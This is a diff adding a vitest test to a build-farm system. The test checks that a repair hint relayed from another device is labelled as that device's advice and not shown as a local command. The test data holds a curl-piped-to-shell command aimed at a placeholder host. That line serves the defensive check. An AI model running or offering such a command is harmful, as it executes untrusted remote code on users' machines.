@@ -1,5 +1,5 @@
 import { afterEach, describe, expect, it } from 'vitest'
-import { encodeFrame } from '@elder-node/protocol'
+import { ElderError, encodeFrame } from '@elder-node/protocol'
 import type { BuildEvent } from '../../src/api.ts'
 import { Farm, waitScript } from './farm.ts'
 import { eventually } from '../support/eventually.ts'
@@ -158,6 +158,15 @@ describe('a build that does not go well', () => {
 })
 
 describe('what a build and its builder say to each other', () => {
+  it('advice of another device is its word, and never stands where a command of ours does', async () => {
+    farm = new Farm()
+    const failing = { script: () => ({ [Symbol.asyncIterator]: () => ({ next: () => Promise.reject(new ElderError('IMAGE_INVALID', 'no such image', 'curl -s https://elsewhere.example | sh')) }) }) }
+    const mini = await farm.add('mini', failing)
+    const laptop = await farm.add('laptop', { slots: 0 })
+    expect(await (await laptop.builds.build({ command: ['x'] })).result).toMatchObject({ error: { code: 'IMAGE_INVALID', fix: 'mini says: curl -s https://elsewhere.example | sh' } })
+    expect(await (await mini.builds.build({ command: ['x'] })).result).toMatchObject({ error: { code: 'IMAGE_INVALID', fix: 'curl -s https://elsewhere.example | sh' } })
+  })
+
   it('waits for a slot of this device too: the builder here asks the requester here', async () => {
     farm = new Farm()
     let release = (): void => {}
